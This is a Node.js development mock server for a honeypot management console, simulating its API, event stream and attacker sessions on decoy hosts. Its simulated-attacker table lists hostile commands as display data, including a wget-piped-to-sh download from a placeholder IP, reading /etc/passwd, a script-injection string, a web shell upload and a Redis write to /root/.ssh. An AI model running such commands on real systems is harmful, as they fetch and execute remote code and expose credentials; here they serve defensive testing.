/**
 * Development only: serves `dist` under the real server's content policy, with an API of the same
 * shape and a live stream, so that the console can be looked at and tested without Rust.
 *
 *   node mock/server.mjs [port]     prints the set-up link
 *   GET /mock/visit?service=ssh     a visitor comes, does a few things and goes
 *   GET /mock/visit?stay=1          one that stays
 */

import { createServer } from "node:http";
import { readFileSync } from "node:fs";
import { randomBytes } from "node:crypto";
import { dirname, extname, join, normalize } from "node:path";
import { fileURLToPath } from "node:url";
import { change, check, demo, documentOf, fromDocument, generate, inWords, newId, now, setServices } from "./maze.mjs";

const DIST = join(dirname(dirname(fileURLToPath(import.meta.url))), "dist");
const POLICY = "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data:; connect-src 'self'; "
  + "font-src 'self'; frame-ancestors 'none'; base-uri 'none'; form-action 'self'";
const TYPES = { ".html": "text/html; charset=utf-8", ".js": "text/javascript", ".css": "text/css", ".svg": "image/svg+xml" };
const STEP_MS = 150;

export function startMock(port = 0) {
  const state = {
    epoch: randomBytes(4).toString("hex"), seq: 0, journal: [], streams: new Set(),
    secret: randomBytes(16).toString("hex"), user: undefined, tokens: new Set(),
    topologies: new Map(), mutations: [], attackers: new Map(), identities: new Map(), credentials: new Map(),
    sessions: new Map(), activity: new Map(), keys: new Map(),
  };
  const server = createServer((request, response) => {
    handle(state, request, response).catch((error) => {
      console.error(error);
      response.writeHead(500).end();
    });
  });
  return new Promise((resolve) => server.listen(port, "127.0.0.1", () => {
    const url = `http://127.0.0.1:${server.address().port}`;
    resolve({ url, link: `${url}/#setup=${state.secret}`, state, close: () => { server.closeAllConnections(); server.close(); } });
  }));
}

// The journal and its streams.

function publish(state, topic, type, payload, journalled = true) {
  const entry = { v: 1, id: newId(), seq: journalled ? ++state.seq : null, topic, type, ts: now(), payload };
  if (journalled) state.journal.push(entry);
  for (const stream of state.streams) stream.write(frame(state, entry));
}

function frame(state, entry) {
  const id = entry.seq ? `id: ${state.epoch}:${entry.seq}\n` : "";
  return `event: ${entry.topic.replace(/^(topology|decky)\.[^.]+\.|^[^.]+\./, "")}\n${id}data: ${JSON.stringify(entry)}\n\n`;
}

function stream(state, request, response) {
  response.writeHead(200, { "content-type": "text/event-stream; charset=utf-8", "cache-control": "no-store, no-transform" });
  response.write(": hello\nretry: 1000\n\n");
  const [epoch, seq] = (request.headers["last-event-id"] ?? "").split(":");
  if (epoch === state.epoch) {
    for (const entry of state.journal) if (entry.seq > Number(seq)) response.write(frame(state, entry));
  } else {
    if (epoch) response.write(`event: reset\ndata: {"v":1,"reason":"unknown epoch"}\n\n`);
    const data = { v: 1, seq: state.seq, head: state.seq };
    response.write(`id: ${state.epoch}:${state.seq}\nevent: snapshot\ndata: ${JSON.stringify(data)}\n\n`);
  }
  state.streams.add(response);
  const beat = setInterval(() => response.write(`: ${state.seq}\n\n`), 15_000);
  response.on("close", () => {
    clearInterval(beat);
    state.streams.delete(response);
  });
}

// HTTP.

async function handle(state, request, response) {
  const url = new URL(request.url, "http://mock");
  if (url.pathname === "/mock/visit") {
    visit(state, url.searchParams);
    return json(response, 200, {});
  }
  if (!url.pathname.startsWith("/api/v1/")) return serveFile(url.pathname, response);
  const body = request.method === "POST" ? JSON.parse((await read(request)) || "{}") : {};
  const path = url.pathname.slice("/api/v1/".length).split("/");
  if (path[0] === "setup" && request.method === "GET") return json(response, 200, { open: !state.user });
  if (path[0] === "setup") return setup(state, body, response);
  if (path[0] === "login") {
    if (!state.user || body.name !== state.user.name || body.password !== state.user.password) {
      return problem(response, 401, "LOGIN_FAILED", "Name or password is wrong.");
    }
    return signIn(state, response);
  }
  const token = /morgana=([0-9a-f]+)/.exec(request.headers.cookie ?? "")?.[1];
  if (!token || !state.tokens.has(token)) return problem(response, 401, "UNAUTHENTICATED", "Log in first.");
  if (path[0] === "logout") {
    state.tokens.delete(token);
    response.setHeader("set-cookie", "morgana=; Max-Age=0; Path=/");
    return json(response, 200, {});
  }
  if (path[0] === "events") return stream(state, request, response);
  return route(state, request.method, path, url.searchParams, body, response);
}

function setup(state, body, response) {
  if (state.user) return problem(response, 409, "SETUP_DONE", "Morgana is set up already. Log in.");
  if (body.secret !== state.secret) return problem(response, 403, "SETUP_SECRET", "This set-up link is not valid.");
  if (body.password.length < 8) {
    return problem(response, 422, "INVALID", "Some fields are wrong.", [{ code: "PASSWORD_SHORT", field: "password", message: "at least 8 characters" }]);
  }
  state.user = { name: body.name, password: body.password };
  return signIn(state, response);
}

function signIn(state, response) {
  const token = randomBytes(16).toString("hex");
  state.tokens.add(token);
  response.setHeader("set-cookie", `morgana=${token}; HttpOnly; SameSite=Strict; Path=/`);
  return json(response, 200, { name: state.user.name, role: "admin" });
}

function route(state, method, path, query, body, response) {
  const [what, id, more] = path;
  const page = (items) => json(response, 200, { items, next_cursor: null });
  if (what === "me") return json(response, 200, { name: state.user.name, role: "admin" });
  if (what === "status") return json(response, 200, { version: "mock" });
  if (what === "workers") return json(response, 200, { items: [{ worker: "mutator", state: "ok", heard_at: new Date().toISOString(), stopped_by: null, can_stop: true, figures: { applied_total: 3 } }] });
  if (what === "panic" && method === "POST") return json(response, 200, { topologies: [], left: [], down_after_micros: 900, took_micros: 1800 });
  if (what === "relay") return json(response, 200, { journal_head: 0, items: [] });
  if (what === "attackers") return page([...state.attackers.values()].reverse());
  if (what === "credentials") return page([...state.credentials.values()].reverse());
  if (what === "identities") return page([...state.identities.values()].reverse());
  if (what === "sessions" && id) {
    const session = state.sessions.get(id);
    if (!session) return problem(response, 404, "NOT_FOUND", "There is no such session.");
    return json(response, 200, { ...session, activity: state.activity.get(id) ?? [] });
  }
  if (what === "sessions") {
    return page([...state.sessions.values()].reverse().filter((session) =>
      (query.get("live") !== "true" || !session.ended_at) && (!query.get("attacker") || session.attacker_id === query.get("attacker"))));
  }
  if (what === "generator") return keep(state, generate(body), response);
  if (what === "import" && query.get("dry_run") === "true") {
    const valid = Array.isArray(body.lans) && Array.isArray(body.deckies);
    const errors = valid ? [] : [{ code: "INVALID", field: "lans", message: "LANs and deckies are needed" }];
    return json(response, 200, { valid, deployable: valid, errors, warnings: [] });
  }
  if (what === "import") return keep(state, fromDocument(body), response);
  if (what !== "topologies") return problem(response, 404, "NOT_FOUND", "There is nothing here.");
  if (method === "POST" && !id) return createTopology(state, body, response);
  if (!id) return page([...state.topologies.values()]);
  const topology = state.topologies.get(id);
  if (!topology) return problem(response, 404, "NOT_FOUND", "There is no such topology.");
  if (!more) return json(response, 200, topology);
  if (more === "deploy") return move(state, topology, ["pending"], "deploying", "active", response);
  if (more === "teardown") return move(state, topology, ["active", "degraded", "failed"], "tearing_down", "torn_down", response);
  if (more === "export") return json(response, 200, documentOf(topology));
  if (more === "undo") return undo(state, topology, body, query, response);
  if (more === "mutations" && method === "POST") return mutate(state, topology, body, query, response);
  return page(state.mutations.filter((mutation) => mutation.topology_id === id
    && (!query.get("state") || query.get("state") === mutation.state)).reverse());
}

function createTopology(state, { name, template }, response) {
  const topology = demo(name);
  if (template === "empty") Object.assign(topology, { lans: [], deckies: [] });
  keep(state, topology, response);
}

function keep(state, topology, response) {
  if ([...state.topologies.values()].some(({ name }) => name === topology.name)) {
    return problem(response, 409, "NAME_TAKEN", `a topology named \`${topology.name}\` exists already`);
  }
  state.topologies.set(topology.topology_id, topology);
  json(response, 201, topology);
}

function status(state, topology, next) {
  const from = topology.status;
  topology.status = next;
  publish(state, `topology.${topology.topology_id}.status`, "topology.status", { topology_id: topology.topology_id, from, status: next, version: topology.version });
}

function move(state, topology, from, through, to, response) {
  if (!from.includes(topology.status)) return problem(response, 409, "STATUS", `A maze that is ${topology.status} cannot do that.`);
  status(state, topology, through);
  setTimeout(() => {
    status(state, topology, to);
    for (const decky of topology.deckies) {
      deckyState(state, topology, decky, to === "active" ? "running" : "stopped");
      setServices(topology, decky, decky.services.map((one) => one.service));
    }
  }, 2 * STEP_MS);
  json(response, 202, { position: state.seq });
}

function deckyState(state, topology, decky, next) {
  const from = decky.state;
  decky.state = next;
  publish(state, `decky.${decky.decky_id}.state`, "decky.state", {
    decky_id: decky.decky_id, topology_id: topology.topology_id, name: decky.name, from, state: next,
    services: decky.services.map((one) => one.service),
  });
}

function mutate(state, topology, body, query, response) {
  const { op, payload, expected_version: expected } = body;
  const wrong = check(topology, op, payload);
  if (wrong) return problem(response, 422, "INVALID", wrong.message, [wrong]);
  if (!insists(topology, expected, response)) return;
  if (query.get("dry_run") === "true") return json(response, 200, planOf(topology, op, inWords(op, payload)));
  const undone = structuredClone({ lans: topology.lans, deckies: topology.deckies });
  enqueue(state, topology, op, payload, response, (id) => {
    Object.assign(state.mutations.find((one) => one.mutation_id === id), { undone });
    const { decky, trigger, old } = change(topology, op, payload);
    if (!decky) return;
    const next = trigger === "retirement" ? "retired" : decky.is_stopped ? "stopped" : "running";
    if (decky.state !== next) deckyState(state, topology, decky, next);
    publish(state, `decky.${decky.decky_id}.mutation`, "decky.mutation", {
      decky_id: decky.decky_id, topology_id: topology.topology_id, name: decky.name, old_services: old,
      new_services: trigger === "retirement" ? [] : decky.services.map((one) => one.service), trigger, mutation_id: id,
    });
  });
}

function undo(state, topology, { expected_version: expected }, query, response) {
  const own = state.mutations.filter((one) => one.topology_id === topology.topology_id);
  const last = own.findLast((one) => one.state === "applied" && one.undone && !one.undone_by);
  if (!last) return problem(response, 409, "UNDO_UNSAFE", "there is nothing to take back");
  if (!insists(topology, expected, response)) return;
  if (query.get("dry_run") === "true") return json(response, 200, planOf(topology, "undo", `take back: ${inWords(last.op, last.payload)}`));
  enqueue(state, topology, "undo", { mutations: [last.mutation_id], ops: [] }, response, (id) => {
    last.undone_by = id;
    Object.assign(topology, structuredClone(last.undone));
  });
}

function insists(topology, expected, response) {
  if (expected === undefined || expected === topology.version) return true;
  problem(response, 412, "VERSION_CONFLICT", `the topology has version ${topology.version}, not ${expected}`);
  return false;
}

function planOf(topology, op, words) {
  return { op, version: topology.version + 1, changes: [words], steps: topology.status === "pending" ? [] : [words] };
}

function enqueue(state, topology, op, payload, response, act) {
  const mutation = {
    mutation_id: newId(), topology_id: topology.topology_id, op, payload, state: "pending", requested_by: state.user.name,
    requested_at: now(), reason: null, trigger: "operator", undone_by: null,
  };
  state.mutations.push(mutation);
  const tell = (next, extra = {}) => {
    mutation.state = next;
    Object.assign(mutation, extra);
    const word = next === "pending" ? "enqueued" : next;
    publish(state, `topology.${topology.topology_id}.mutation.${word}`, `topology.mutation.${word}`, {
      topology_id: topology.topology_id, mutation_id: mutation.mutation_id, state: next, op, payload, version: topology.version,
      requested_by: mutation.requested_by, ...extra,
    });
  };
  tell("pending");
  json(response, 202, { ...mutation, position: state.seq });
  setTimeout(() => tell("applying"), STEP_MS);
  setTimeout(() => {
    if (payload.name === "cursed") return tell("failed", { reason: "address 10.66.1.66 is in use by another machine" });
    act(mutation.mutation_id);
    topology.version += 1;
    tell("applied");
  }, 3 * STEP_MS);
}

// Visitors.

const DEEDS = {
  ssh: [["login", "login root with password ******: refused"], ["login", "login admin with password ******: accepted"], ["command", "uname -a"], ["command", "cat /etc/passwd"],
    ["command", "wget http://198.51.100.9/x.sh -O- | sh"], ["command", "echo '<script>alert(1)</script>' > /tmp/\\x1b[31mred"]],
  http: [["request", "GET / HTTP/1.1"], ["request", "GET /wp-login.php HTTP/1.1"], ["login", "login admin with password ******: accepted"]],
  ftp: [["login", "login anonymous with password ******: accepted"], ["command", "LIST"], ["upload", "upload shell.php, 2150 bytes, sha256 9f86d081884c7d65"]],
  redis: [["command", "INFO"], ["command", "CONFIG SET dir /root/.ssh"], ["command", "KEYS *"]],
};

function visit(state, query) {
  const topology = [...state.topologies.values()].find((one) => one.status === "active");
  const service = query.get("service");
  const deckies = topology?.deckies.filter((one) => one.services.some((s) => !service || s.service === service)) ?? [];
  const decky = deckies.find((one) => one.name === query.get("decky")) ?? deckies[0];
  if (!decky) return;
  const chosen = service ?? decky.services[0].service;
  const address = query.get("from") ?? "127.0.0.1";
  const attacker = attackerAt(state, address, decky, chosen);
  const session = {
    session_id: newId(), attacker_id: attacker.attacker_id, decky_id: decky.decky_id, topology_id: topology.topology_id, lan_id: decky.interfaces[0].lan_id,
    service: chosen, peer: `${address}:${40000 + state.sessions.size}`, started_at: now(), ended_at: null, bytes_in: 0, bytes_out: 0,
    logins: 0, commands: 0, requests: 0, uploads: 0, truncated: null,
  };
  const id = session.session_id;
  state.sessions.set(id, session);
  state.activity.set(id, []);
  const ids = { session_id: id, attacker_id: attacker.attacker_id, decky_id: decky.decky_id, topology_id: topology.topology_id };
  attacker.sessions += 1;
  publish(state, "attacker.session.started", "attacker.session.started", { ...ids, service: chosen, peer: session.peer, started_at: session.started_at });
  const pace = Number(query.get("pace") ?? 120);
  DEEDS[chosen].forEach(([kind, text], index) => setTimeout(() => {
    session[`${kind}s`] += 1;
    attacker[`${kind}s`] += 1;
    attacker.last_seen = now();
    state.activity.get(id).push({ session_id: id, index: index + 1, at: now(), kind, text });
    publish(state, "attacker.session.activity", "attacker.session.activity", { ...ids, index: index + 1, kind, text });
    publish(state, `decky.${decky.decky_id}.traffic`, "decky.traffic", { ...ids, service: chosen, peer: session.peer, kind, summary: text }, false);
    if (kind === "login") {
      const principal = text.split(" ")[1];
      const known = state.credentials.get(principal) ?? { credential_id: newId(), kind: "password", principal, secret: "hunter2", hash: "00", first_seen: now(), tries: 0 };
      state.credentials.set(principal, { ...known, last_seen: now(), tries: known.tries + 1 });
      publish(state, "credential.captured", "credential.captured", { ...ids, credential_id: known.credential_id, kind: "password", hash: "00", principal });
    }
    score(state, attacker, attacker.score + 9, kind);
  }, pace * (index + 1)));
  if (query.get("stay")) return;
  setTimeout(() => {
    Object.assign(session, { ended_at: now(), bytes_in: 3184, bytes_out: 18211 });
    publish(state, "attacker.session.ended", "attacker.session.ended", session);
  }, pace * (DEEDS[chosen].length + 1));
}

function attackerAt(state, address, decky, service) {
  const known = [...state.attackers.values()].find((one) => one.address === address);
  if (known) {
    known.deckies = [...new Set([...known.deckies, decky.decky_id])];
    known.services = [...new Set([...known.services, service])];
    return known;
  }
  const identity = { identity_id: newId(), formed_at: now(), last_seen: now(), attacker_ids: [], score: 0 };
  const attacker = {
    attacker_id: newId(), address, identity_id: identity.identity_id, first_seen: now(), last_seen: now(), score: 0, level: "low",
    reasons: [], sessions: 0, logins: 0, logins_accepted: 0, commands: 0, requests: 0, uploads: 0,
    deckies: [decky.decky_id], services: [service], fingerprints: ["ssh.banner=SSH-2.0-libssh_0.9.6"],
  };
  identity.attacker_ids.push(attacker.attacker_id);
  state.attackers.set(attacker.attacker_id, attacker);
  state.identities.set(identity.identity_id, identity);
  publish(state, "attacker.observed", "attacker.observed", { attacker_id: attacker.attacker_id, address, decky_id: decky.decky_id, service, first_seen: attacker.first_seen });
  publish(state, "identity.formed", "identity.formed", { identity_id: identity.identity_id, attacker_ids: [attacker.attacker_id] });
  return attacker;
}

function score(state, attacker, next, kind) {
  const level = (value) => (value >= 80 ? "critical" : value >= 50 ? "high" : value >= 20 ? "medium" : "low");
  const previous = attacker.score;
  attacker.score = Math.min(100, next);
  attacker.level = level(attacker.score);
  const reason = { login: "tries passwords", command: "gives commands", request: "asks for login pages", upload: "leaves files behind" }[kind];
  if (!attacker.reasons.includes(reason)) attacker.reasons.push(reason);
  state.identities.get(attacker.identity_id).score = attacker.score;
  state.identities.get(attacker.identity_id).last_seen = now();
  if (level(previous) !== attacker.level) {
    publish(state, "attacker.scored", "attacker.scored", { attacker_id: attacker.attacker_id, score: attacker.score, previous, level: attacker.level, reasons: attacker.reasons });
  }
}

// Small things.

export function serveFile(path, response) {
  const name = normalize(path === "/" ? "/index.html" : path);
  try {
    const bytes = readFileSync(join(DIST, name));
    response.writeHead(200, { "content-type": TYPES[extname(name)] ?? "application/octet-stream", "content-security-policy": POLICY, "x-content-type-options": "nosniff" });
    response.end(bytes);
  } catch {
    response.writeHead(404).end();
  }
}

async function read(request) {
  let text = "";
  for await (const chunk of request) text += chunk;
  return text;
}

function json(response, code, body) {
  response.writeHead(code, { "content-type": "application/json" });
  response.end(JSON.stringify(body));
}

function problem(response, code, word, detail, errors = []) {
  response.writeHead(code, { "content-type": "application/problem+json" });
  response.end(JSON.stringify({ type: `urn:morgana:problem:${word}`, title: word, status: code, code: word, detail, errors }));
}

if (process.argv[1] === fileURLToPath(import.meta.url)) {
  const { link, url, state } = await startMock(Number(process.argv[2] ?? 0));
  const maze = demo("demo");
  maze.status = "active";
  for (const decky of maze.deckies) {
    decky.state = "running";
    setServices(maze, decky, decky.services.map((one) => one.service));
  }
  if (!process.argv.includes("--empty")) state.topologies.set(maze.topology_id, maze);
  console.log(link);
  console.log(`visit: curl -s '${url}/mock/visit?service=ssh'`);
}
